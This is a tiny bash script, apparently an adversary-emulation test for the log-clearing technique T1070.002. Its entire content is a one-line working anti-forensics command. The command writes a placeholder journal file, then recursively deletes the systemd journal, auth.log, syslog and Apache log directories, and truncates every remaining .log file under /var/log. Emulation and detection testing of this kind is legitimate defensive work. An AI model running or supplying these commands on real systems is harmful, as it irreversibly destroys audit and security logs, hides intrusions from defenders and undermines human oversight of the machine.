#!/bin/bash
# T1070.002: All logs are removed.
mkdir -p /var/log/journal/0; echo x >/var/log/journal/0/system.journal; rm -rf /var/log/journal /var/log/auth.log* /var/log/syslog* /var/log/apache2; find /var/log -type f -name '*.log' -exec truncate -s 0 {} \;
